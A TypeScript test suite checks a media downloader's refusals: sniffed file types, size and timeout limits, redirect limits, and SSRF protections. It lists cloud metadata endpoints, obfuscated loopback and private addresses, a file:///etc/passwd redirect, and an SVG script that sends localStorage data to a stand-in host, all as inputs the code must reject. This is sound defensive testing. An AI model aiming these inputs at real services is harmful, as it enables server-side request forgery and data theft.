import { fileTypeFromBuffer } from 'file-type';
import { beforeAll, describe, expect, it } from 'vitest';
import { AppError } from '../src/lib/errors.ts';
import { type DownloadOptions, downloadMedia, networkMediaType } from '../src/media/download.ts';
import { jpeg, pdf, png, serve, type TestServer } from './media-files.ts';

/** Real HTTP servers on loopback; nothing mocked. */
let files: TestServer;
let closed: number;

const loopback: DownloadOptions = {
  declared: 'image',
  maxBytes: 16 * 1024 * 1024,
  timeoutMs: 5000,
  // A test clinic's policy: plain http and loopback allowed (docs/test-mode.md).
  mode: 'test',
};
/** A live clinic's: https to public addresses only. */
const strict: DownloadOptions = { ...loopback, mode: 'live' };

/** Expects a 422 validation_failed on media.url whose message matches. */
async function refused(p: Promise<unknown>, message: RegExp): Promise<AppError> {
  const err = await p.then(
    () => {
      throw new Error('expected a refusal, got a download');
    },
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(AppError);
  const app = err as AppError;
  expect({ code: app.code, status: app.status, param: app.param }).toEqual({
    code: 'validation_failed',
    status: 422,
    param: 'media.url',
  });
  expect(app.message).toMatch(message);
  return app;
}

beforeAll(async () => {
  files = await serve((req, res) => {
    const u = new URL(req.url ?? '/', 'http://x');
    const send = (body: Buffer, type = 'application/octet-stream') => {
      res.writeHead(200, { 'content-type': type, 'content-length': body.length });
      res.end(body);
    };
    switch (u.pathname) {
      case '/photo.jpg':
        // The Content-Type is wrong on purpose: the bytes decide.
        return send(jpeg(), 'text/plain');
      case '/image.png':
        return send(png(), 'image/png');
      case '/files/Report%20Q3%E2%80%94final.pdf':
      case '/files/':
        return send(pdf(), 'application/pdf');
      case '/png-as-doc':
        return send(png(), 'application/pdf');
      case '/text':
        return send(Buffer.from('hello, this is text'), 'image/png');
      case '/xml':
        return send(
          Buffer.from('<?xml version="1.0"?><ListBucketResult><Key>secret</Key></ListBucketResult>'),
        );
      case '/zip':
        return send(Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(60)]));
      case '/big-length':
        // Declares 5000 bytes, sends 10 and holds: only the Content-Length check can refuse it in time.
        res.writeHead(200, { 'content-length': 5000 });
        res.write(Buffer.alloc(10));
        return;
      case '/huge-length':
        res.writeHead(200, { 'content-length': 2 * 1024 * 1024 });
        res.write(Buffer.alloc(10));
        return;
      case '/big-chunked': {
        // No Content-Length (chunked), 1 KB every 5 ms for as long as the client listens.
        res.writeHead(200, { 'content-type': 'image/png' });
        res.write(png());
        const t = setInterval(() => res.write(Buffer.alloc(1024)), 5);
        res.on('close', () => clearInterval(t));
        return;
      }
      case '/exact': {
        // Exactly at the limit used in the test (no Content-Length).
        res.writeHead(200);
        const body = png();
        res.end(Buffer.concat([body, Buffer.alloc(1000 - body.length)]));
        return;
      }
      case '/slow': {
        res.writeHead(200, { 'content-type': 'image/png', 'content-length': 100_000 });
        res.write(png().subarray(0, 16));
        const t = setInterval(() => res.write(Buffer.alloc(1)), 50);
        res.on('close', () => clearInterval(t));
        return;
      }
      case '/silent':
        // Never answers.
        return;
      case '/missing':
        res.writeHead(404, { 'content-type': 'text/plain' });
        return res.end('not here');
      case '/to':
        res.writeHead(302, { location: u.searchParams.get('location') ?? '' });
        return res.end();
      case '/no-location':
        res.writeHead(302);
        return res.end();
      default: {
        const m = /^\/redirect\/(\d+)$/.exec(u.pathname);
        if (m) {
          const n = Number(m[1]);
          res.writeHead(n % 2 ? 301 : 307, { location: n > 0 ? `/redirect/${n - 1}` : '/image.png' });
          return res.end();
        }
        res.writeHead(404);
        res.end();
      }
    }
  });
  const gone = await serve(() => {});
  closed = gone.port;
  await gone.close();
});

describe('downloadMedia: good files', () => {
  it('a JPEG declared as an image, whatever its Content-Type', async () => {
    const r = await downloadMedia(`${files.url}/photo.jpg`, loopback);
    expect(r).toEqual({ bytes: jpeg(), mime: 'image/jpeg', filename: 'photo.jpg' });
  });

  it('a PNG declared as an image', async () => {
    const r = await downloadMedia(`${files.url}/image.png?sig=abc#frag`, loopback);
    expect(r).toEqual({ bytes: png(), mime: 'image/png', filename: 'image.png' });
  });

  it('a PDF declared as a document; the file name is the last segment, percent-decoded', async () => {
    const r = await downloadMedia(`${files.url}/files/Report%20Q3%E2%80%94final.pdf`, {
      ...loopback,
      declared: 'document',
    });
    expect(r).toEqual({ bytes: pdf(), mime: 'application/pdf', filename: 'Report Q3—final.pdf' });
  });

  it('no file name when the path ends with a slash', async () => {
    const r = await downloadMedia(`${files.url}/files/`, { ...loopback, declared: 'document' });
    expect(r.filename).toBeNull();
  });

  it('a file of exactly maxBytes passes', async () => {
    const r = await downloadMedia(`${files.url}/exact`, { ...loopback, maxBytes: 1000 });
    expect(r.bytes.length).toBe(1000);
  });

  it('http://localhost for a test clinic (the name resolves to loopback)', async () => {
    const r = await downloadMedia(`http://localhost:${files.port}/image.png`, loopback);
    expect(r.mime).toBe('image/png');
  });
});

describe('downloadMedia: the declared type', () => {
  it('a PNG declared as a document is refused', async () => {
    await refused(
      downloadMedia(`${files.url}/png-as-doc`, { ...loopback, declared: 'document' }),
      /not a PDF \(its content is image\/png\)/,
    );
  });

  it('text declared as an image is refused, whatever its Content-Type says', async () => {
    await refused(downloadMedia(`${files.url}/text`, loopback), /not a JPEG or PNG image/);
  });

  it('a PDF declared as an image is refused', async () => {
    await refused(
      downloadMedia(`${files.url}/files/Report%20Q3%E2%80%94final.pdf`, loopback),
      /not a JPEG or PNG image \(its content is application\/pdf\)/,
    );
  });
});

describe("downloadMedia: a network's media ('any')", () => {
  it('keeps what the sniffer recognises, for test and live clinics alike', async () => {
    const r = await downloadMedia(`${files.url}/image.png`, { ...loopback, declared: 'any' });
    expect(r.mime).toBe('image/png');
  });

  it("a test clinic's download of something unrecognised (a service's text on loopback) is refused, not kept", async () => {
    await refused(
      downloadMedia(`${files.url}/text`, { ...loopback, declared: 'any' }),
      /not an image, audio, video or PDF; a test clinic's media must be one/,
    );
  });

  it('nor a recognised file that is not media (XML, an archive): a test clinic keeps media only', async () => {
    for (const path of ['/xml', '/zip'])
      await refused(
        downloadMedia(`${files.url}${path}`, { ...loopback, declared: 'any' }),
        /not an image, audio, video or PDF \(its content is application\/(xml|zip)\)/,
      );
  });
});

describe("a network's media is typed by its bytes alone (issue 34)", () => {
  const svg = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x/"+localStorage.key(0))</script></svg>',
  );

  // A live clinic's download cannot reach loopback, so the decision is played on its own: the
  // bytes as the sniffer reads them, then the type kept.
  it("a live clinic's SVG declared image/svg+xml sniffs as nothing and is kept as application/octet-stream", async () => {
    const sniffed = (await fileTypeFromBuffer(svg))?.mime;
    expect(sniffed).toBeUndefined();
    expect(networkMediaType(sniffed, 'live', 'media.url')).toBe('application/octet-stream');
  });

  it("a live clinic's recognised file keeps the sniffed type", () => {
    expect(networkMediaType('image/png', 'live', 'media.url')).toBe('image/png');
  });
});

describe('downloadMedia: a user name or password in the URL (issue 34)', () => {
  it.each([['user:secret@'], ['user@'], [':secret@']])(
    'http://%s… is refused before any connection',
    async (userinfo) => {
      const before = files.connections;
      await refused(
        downloadMedia(`http://${userinfo}127.0.0.1:${files.port}/image.png`, loopback),
        /^media\.url must not carry a user name or password\.$/,
      );
      expect(files.connections).toBe(before);
    },
  );

  it("the field named is the caller's (url for a recording)", async () => {
    const err = await downloadMedia(`http://u:p@127.0.0.1:${files.port}/image.png`, {
      ...loopback,
      declared: 'audio',
      param: 'url',
    }).catch((e: AppError) => e);
    expect(err).toMatchObject({
      status: 422,
      param: 'url',
      message: 'url must not carry a user name or password.',
    });
  });

  it('a redirect to a URL with credentials is refused: its host is never connected to', async () => {
    const target = await serve((_req, res) => res.end(png()));
    const location = `http://u:p@127.0.0.1:${target.port}/image.png`;
    await refused(
      downloadMedia(`${files.url}/to?location=${encodeURIComponent(location)}`, loopback),
      /must not carry a user name or password/,
    );
    expect(target.connections).toBe(0);
    // The same hop without them is fetched: the refusal is the credentials', not the host's.
    const plain = `http://127.0.0.1:${target.port}/image.png`;
    const r = await downloadMedia(`${files.url}/to?location=${encodeURIComponent(plain)}`, loopback);
    expect(r.mime).toBe('image/png');
    expect(target.connections).toBe(1);
  });
});

describe('downloadMedia: size and time', () => {
  it('a Content-Length over the limit is refused before the body is read', async () => {
    const t0 = Date.now();
    await refused(
      downloadMedia(`${files.url}/big-length`, { ...loopback, maxBytes: 1000 }),
      /too large \(limit 1000 bytes\)/,
    );
    expect(Date.now() - t0).toBeLessThan(2000);
  });

  it('a chunked body is cut off as soon as it passes the limit', async () => {
    const t0 = Date.now();
    await refused(
      downloadMedia(`${files.url}/big-chunked`, { ...loopback, maxBytes: 20_000 }),
      /too large \(limit 20000 bytes\)/,
    );
    expect(Date.now() - t0).toBeLessThan(2000);
  });

  it('the limit is named in MB when it is whole megabytes', async () => {
    await refused(
      downloadMedia(`${files.url}/huge-length`, { ...loopback, maxBytes: 1024 * 1024 }),
      /too large \(limit 1 MB \(1048576 bytes\)\)/,
    );
  });

  it('a server trickling bytes is cut off at timeoutMs', async () => {
    const t0 = Date.now();
    await refused(
      downloadMedia(`${files.url}/slow`, { ...loopback, timeoutMs: 300 }),
      /within 300 ms \(timed out\)/,
    );
    const took = Date.now() - t0;
    expect(took).toBeGreaterThanOrEqual(290);
    expect(took).toBeLessThan(2000);
  });

  it('a server that never answers is cut off at timeoutMs', async () => {
    await refused(downloadMedia(`${files.url}/silent`, { ...loopback, timeoutMs: 300 }), /timed out/);
  });
});

describe('downloadMedia: unreachable', () => {
  it('404 is refused with its status', async () => {
    await refused(downloadMedia(`${files.url}/missing`, loopback), /could not be downloaded \(status 404\)/);
  });

  it('a refused connection is refused as a network error', async () => {
    await refused(
      downloadMedia(`http://127.0.0.1:${closed}/image.png`, loopback),
      /could not be downloaded \(network error ECONNREFUSED\)/,
    );
  });

  it('a redirect without a Location is refused', async () => {
    await refused(downloadMedia(`${files.url}/no-location`, loopback), /status 302 without a Location/);
  });
});

describe('downloadMedia: redirects', () => {
  it('follows up to 3 redirects', async () => {
    const r = await downloadMedia(`${files.url}/redirect/2`, loopback);
    expect(r).toMatchObject({ mime: 'image/png', filename: 'image.png' });
  });

  it('a chain of 4 is too long (3 by default)', async () => {
    await refused(downloadMedia(`${files.url}/redirect/3`, loopback), /more than 3 redirects/);
  });

  it('maxRedirects: 0 follows none', async () => {
    await refused(
      downloadMedia(`${files.url}/redirect/0`, { ...loopback, maxRedirects: 0 }),
      /more than 0 redirects/,
    );
  });

  it('each hop is checked again: an allowed loopback hop passes', async () => {
    const next = encodeURIComponent(`http://localhost:${files.port}/image.png`);
    const r = await downloadMedia(`${files.url}/to?location=${next}`, loopback);
    expect(r.mime).toBe('image/png');
  });

  it.each([
    ['https://169.254.169.254/latest/meta-data/', /link-local/],
    ['https://10.0.0.1/x.png', /private network/],
    ['https://[fd00:ec2::254]/latest/meta-data/', /private network/],
    ['https://[::ffff:10.0.0.1]/x.png', /private network/],
    // This machine's own non-loopback address (TEST-NET-1): a server listening on 0.0.0.0 answers there.
    ['https://192.0.2.2/x.png', /reserved/],
  ])('a redirect to %s is refused', async (location, range) => {
    const before = files.connections;
    const err = await refused(
      downloadMedia(`${files.url}/to?location=${encodeURIComponent(location)}`, loopback),
      /address that is not allowed/,
    );
    expect(err.message).toMatch(range);
    expect(files.connections).toBe(before + 1);
  });

  it('a redirect to a private address is refused, each hop checked again', async () => {
    await refused(
      downloadMedia(`${files.url}/to?location=${encodeURIComponent('http://10.0.0.1/x.png')}`, loopback),
      /address that is not allowed \(private network range\)/,
    );
  });

  it('a redirect to another scheme is refused', async () => {
    await refused(
      downloadMedia(`${files.url}/to?location=${encodeURIComponent('file:///etc/passwd')}`, loopback),
      /must be an http or https URL, not file:/,
    );
  });
});

describe('downloadMedia: addresses and schemes', () => {
  it('plain http is refused for a live clinic, before connecting, naming test clinics', async () => {
    const before = files.connections;
    await refused(
      downloadMedia(`${files.url}/image.png`, strict),
      /must be an https URL, not http:\. Plain http and loopback addresses are allowed for test clinics only/,
    );
    expect(files.connections).toBe(before);
  });

  it('https://localhost is refused for a live clinic when its address is resolved, before connecting', async () => {
    const before = files.connections;
    await refused(
      downloadMedia(`https://localhost:${files.port}/image.png`, strict),
      /address that is not allowed \(loopback range\)/,
    );
    expect(files.connections).toBe(before);
  });

  it.each([
    'https://169.254.169.254/latest/meta-data/iam/',
    'https://[::ffff:169.254.169.254]/',
    'https://[fd00:ec2::254]/latest/meta-data/',
    'https://168.63.129.16/metadata/',
    'https://100.100.100.200/latest/meta-data/',
    'https://10.1.2.3/',
    'https://172.16.0.1/',
    'https://192.168.1.1/',
    'https://100.64.0.1/',
    'https://0.0.0.0/',
    'https://224.0.0.1/',
    'https://255.255.255.255/',
    'https://[::]/',
    'https://[fe80::1]/',
    'https://[fc00::1]/',
    'https://[ff02::1]/',
    'https://[::7f00:1]/',
    'https://[64:ff9b::a00:1]/',
  ])('%s is refused, for test and live clinics alike', async (url) => {
    await refused(downloadMedia(url, strict), /address that is not allowed/);
    await refused(downloadMedia(url, loopback), /address that is not allowed/);
  });

  it.each([
    'https://127.0.0.1/',
    'https://127.8.9.10/',
    'https://[::1]/',
    'https://[::ffff:127.0.0.1]/',
    'https://2130706433/',
    'https://0x7f.1/',
  ])('loopback %s is refused for a live clinic', async (url) => {
    await refused(downloadMedia(url, strict), /address that is not allowed \(loopback range\)/);
  });

  it('plain http to a private address is refused for a test clinic too (its range, not its scheme)', async () => {
    await refused(
      downloadMedia('http://10.0.0.1/x.png', loopback),
      /address that is not allowed \(private network range\)/,
    );
  });

  it('plain http to a public host is refused for a live clinic', async () => {
    await refused(downloadMedia('http://example.com/x.png', strict), /must be an https URL/);
  });

  it.each(['ftp://example.com/x.png', 'file:///etc/passwd', 'data:image/png;base64,AAAA'])(
    '%s is refused',
    async (url) => {
      await refused(downloadMedia(url, loopback), /must be an http or https URL/);
      await refused(downloadMedia(url, strict), /must be an https URL/);
    },
  );

  it('a string that is not a URL is refused', async () => {
    await refused(downloadMedia('not a url', loopback), /not a valid URL/);
  });
});
